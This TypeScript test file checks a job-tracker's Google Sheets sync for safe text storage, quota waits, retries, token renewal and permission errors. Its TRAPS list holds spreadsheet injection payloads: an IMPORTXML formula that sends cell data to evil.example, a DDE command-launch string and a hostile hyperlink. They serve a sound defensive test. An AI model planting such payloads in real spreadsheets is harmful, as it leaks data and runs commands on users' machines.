import { PeregrineError, type Job } from "@peregrine/core";
import { afterEach, beforeEach, expect, test } from "vitest";
import { sheetsFailure } from "./sheets-failure.ts";
import { openHome, type Home } from "./testing/home.ts";

const job: Job = { title: "Engineer", url: "https://example.com/jobs/7", status: "applied" };
const jobsUpTo = (count: number): Job[] =>
  Array.from({ length: count }, (_, n) => ({
    title: `Job ${n}`,
    url: `https://x.example/${n}`,
    status: "applied",
  }));

/** What a spreadsheet would take for something else, or worse, if it were typed. */
const TRAPS = [
  "=1+1",
  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  '=HYPERLINK("https://evil.example","Apply")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "'quoted",
  "1-2",
  "3/4",
  "007",
  "1e5",
  "TRUE",
  "2026-10-01",
  "50 %",
  "£5",
];

let home: Home;
let id: string;

beforeEach(async () => {
  home = await openHome();
  id = home.service.person.createSpreadsheet("Search", { Jobs: [] }).id;
});

afterEach(() => home[Symbol.asyncDispose]());

const sync = (jobs: readonly Job[], also: object = {}) => home.sync({ spreadsheet_id: id }, jobs, also);
const rows = () => home.service.rows(id, "Jobs");

test("no text of a job becomes a formula, a date, a number, or another text", async () => {
  const jobs = TRAPS.map((text, n) => ({
    ...job,
    url: `${job.url}/${n}`,
    title: text,
    company: text,
    salary: text,
  }));
  await sync(jobs);
  await sync(jobs.map((one) => ({ ...one, location: one.title })));
  const cells = home.service.cells(id, "Jobs").slice(1);
  expect(cells).toHaveLength(TRAPS.length);
  for (const [n, row] of cells.entries()) {
    const asText = row.filter((cell) => cell && "stringValue" in cell && cell.stringValue === TRAPS[n]);
    expect(asText, TRAPS[n]).toHaveLength(4);
    expect(row.some((cell) => cell && "formulaValue" in cell)).toBe(false);
  }
});

test("a text longer than a cell holds is cut, not through a character, and not sent again", async () => {
  const long = [{ ...job, title: "😀".repeat(30_000) }];
  expect((await sync(long)).counts).toMatchObject({ created: 1, failed: 0 });
  const title = String(rows()[0]?.["Job Title"]);
  expect([title.length, title.isWellFormed(), title.endsWith("😀…")]).toEqual([49_999, true, true]);
  expect((await sync(long)).counts).toMatchObject({ unchanged: 1 });
});

test("a quota that is used up is waited for, until just after the edge of the minute", () => {
  const refused = new PeregrineError("rate_limited", "Quota exceeded", { status: 429 });
  for (let n = 0; n < 50; n += 1) {
    const from = Date.now();
    const failure = sheetsFailure(refused, undefined, true);
    const to = Date.now();
    if (!PeregrineError.is(failure)) throw failure;
    const pastEdgeMs = (to + Number(failure.retryAfterMs)) % 60_000;
    expect(pastEdgeMs).toBeGreaterThanOrEqual(1_000);
    expect(pastEdgeMs).toBeLessThanOrEqual(2_001 + to - from);
  }
  const told = new PeregrineError("rate_limited", "Quota exceeded", { status: 429, retryAfterMs: 7_000 });
  expect(sheetsFailure(told, undefined, true)).toMatchObject({ code: "rate_limited", retryAfterMs: 7_000 });
});

test("with hardly any quota everything arrives, a little later, and once", async () => {
  await using tight = await openHome({ quota: { reads: 6, writes: 1 } });
  const { id } = tight.service.person.createSpreadsheet("Search", { Jobs: [] });
  const began = tight.clock.now();
  const arrived = () => tight.service.rows(id, "Jobs").length;
  for (let runs = 0; arrived() === 0 && runs < 20; runs += 1) {
    const { resumeAt } = await tight.sync({ spreadsheet_id: id }, jobsUpTo(10));
    if (resumeAt) await tight.clock.advance(Date.parse(resumeAt) - tight.clock.now() + 1);
  }
  expect(arrived()).toBe(10);
  expect(tight.clock.now() - began).toBeGreaterThanOrEqual(60_000);
});

test("new rows whose answer was lost are looked for, and not added again", async () => {
  home.service.failAfter({ path: /:batchUpdate$/, nth: 2 }, 503);
  expect((await sync(jobsUpTo(5))).counts).toMatchObject({ created: 5, failed: 0 });
  expect(rows().map((row) => row["Job Title"])).toEqual(jobsUpTo(5).map(({ title }) => title));
});

test("a token that ends in mid-run is renewed once, and nothing is doubled", async () => {
  home.service.before({ path: /:batchUpdate$/, nth: 2 }, () => home.service.expireTokens());
  expect((await sync(jobsUpTo(5))).counts).toMatchObject({ created: 5 });
  expect([rows().length, home.service.tokenRequests]).toEqual([5, 2]);
});

test("a tab in which the jobs' rows are protected says so", async () => {
  await sync(jobsUpTo(2));
  home.service.person.protectRows(id, "Jobs", 0, 50);
  const report = await sync(jobsUpTo(2).map((one) => ({ ...one, status: "offer" })));
  expect([report.outcome, report.failure]).toEqual([
    "stopped",
    expect.objectContaining({
      code: "permission",
      hint: expect.stringContaining("Protect sheets and ranges"),
    }),
  ]);
});

test("who may only read is told with the first write, and asked to be made an Editor", async () => {
  home.service.person.share(id, "reader");
  const report = await sync(jobsUpTo(2));
  expect([report.outcome, report.failure]).toEqual([
    "stopped",
    expect.objectContaining({
      code: "permission",
      field: "spreadsheet_id",
      hint: expect.stringContaining("Editor"),
    }),
  ]);
});
